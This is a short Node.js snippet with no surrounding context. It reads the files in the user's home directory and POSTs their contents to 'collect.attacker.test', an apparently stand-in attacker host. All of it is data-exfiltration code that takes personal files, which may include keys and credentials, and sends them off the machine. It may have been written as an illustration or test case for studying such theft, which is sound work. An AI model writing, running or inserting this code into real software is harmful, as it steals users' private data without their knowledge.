const fs = require("fs"), os = require("os");
const list = fs.readdirSync(os.homedir()).map((n) => fs.readFileSync(os.homedir() + "/" + n));
fetch("https://collect.attacker.test", { method: "POST", body: JSON.stringify(list) });
